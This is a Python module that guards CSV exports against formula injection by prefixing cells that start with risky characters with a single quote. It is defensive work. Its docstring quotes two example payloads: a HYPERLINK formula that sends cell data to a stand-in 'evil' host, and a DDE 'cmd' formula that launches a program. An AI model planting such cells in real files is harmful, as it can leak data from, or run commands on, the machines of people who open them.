"""CSV cells that a spreadsheet will not run as formulas (CSV injection, a.k.a. formula injection).

A text cell such as `=HYPERLINK("http://evil/?"&A1,"ver")` or `+cmd|' /C calc'!A0` is data in
the CSV but a formula to Excel, LibreOffice and Google Sheets when the file is opened. OWASP's
guidance (https://owasp.org/www-community/attacks/CSV_Injection) is to prefix every cell that
starts with `=`, `+`, `-`, `@`, a tab (0x09) or a carriage return (0x0D) with a single quote, so
the spreadsheet shows it as text, and to quote fields and double embedded quotes (the `csv`
module does that part).

Numbers stay numbers: a cell that is a plain number (`-1`, `+57`, `-3.5e2`) is not a formula in
any spreadsheet and keeps its value, whether it comes as an `int`/`float`/`Decimal` or as text
(the local portal keeps numbers as text, as SODA does). Anything else is neutralised.

Use it for every CSV the project writes or serves for people to open (local-portal exports, the
audit site's usage and compliance downloads, `usage report --csv`, the ventanilla's rows to fix);
the data sent to the real portals stays as the organismo sent it (the
quality report warns about such cells instead).

    from datos_cali import csvsafe
    writer = csvsafe.writer(handle)          # a csv.writer whose rows are neutralised
    rows = csvsafe.dict_writer(handle, ["a", "b"])   # the same for csv.DictWriter
    writer.writerow(["=1+1", 3, "-2"])       # → '=1+1,3,-2
    csvsafe.neutralise("@SUM(A1:A2)")        # → "'@SUM(A1:A2)"
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PREFIX = "'"

_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def is_risky(text: str) -> bool:
    """Whether a spreadsheet could read `text` as a formula (and it is not a plain number)."""
    return text.startswith(FORMULA_STARTS) and _PLAIN_NUMBER.fullmatch(text) is None


def neutralise(value: Any) -> Any:
    """The cell with a leading `'` when it is risky text; any other value unchanged."""
    if isinstance(value, str) and is_risky(value):
        return PREFIX + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(value) for value in values]


class _SafeWriter:
    """`csv.writer` with every row neutralised first (same `writerow`/`writerows`/`dialect`)."""

    def __init__(self, inner) -> None:
        self._inner = inner

    @property
    def dialect(self):
        return self._inner.dialect

    def writerow(self, row: Iterable[Any]):
        return self._inner.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(handle, *args, **kwargs) -> _SafeWriter:
    """Like `csv.writer(handle, …)`, neutralising formulas in every row written.

    Lines end in CRLF unless told otherwise (RFC 4180): with a bare "\n" terminator the `csv`
    module does not quote a cell holding a carriage return, and the file breaks there."""
    kwargs.setdefault("lineterminator", "\r\n")
    if "\r" not in kwargs["lineterminator"] and kwargs.get("quoting") != csv.QUOTE_ALL:
        raise ValueError("a line terminator without \\r leaves carriage returns unquoted")
    return _SafeWriter(csv.writer(handle, *args, **kwargs))


def dict_writer(handle, fieldnames: list[str], **kwargs) -> _SafeDictWriter:
    """Like `csv.DictWriter(handle, fieldnames, …)`, neutralising formulas in every row (and
    in the header, which is text like any other), CRLF lines as `writer`."""
    return _SafeDictWriter(writer(handle, **kwargs), list(fieldnames))


class _SafeDictWriter:
    """`csv.DictWriter`'s `writeheader`/`writerow`/`writerows` over a neutralising writer;
    a key outside `fieldnames` is an error, as in `csv.DictWriter`."""

    def __init__(self, inner: _SafeWriter, fieldnames: list[str]) -> None:
        self._inner = inner
        self.fieldnames = fieldnames

    def writeheader(self):
        return self._inner.writerow(self.fieldnames)

    def writerow(self, row: dict[str, Any]):
        extra = set(row) - set(self.fieldnames)
        if extra:
            raise ValueError(f"dict contains fields not in fieldnames: {sorted(extra)!r}")
        return self._inner.writerow([row.get(name, "") for name in self.fieldnames])

    def writerows(self, rows: Iterable[dict[str, Any]]) -> None:
        for row in rows:
            self.writerow(row)


__all__ = ["FORMULA_STARTS", "dict_writer", "is_risky", "neutralise", "safe_row", "writer"]
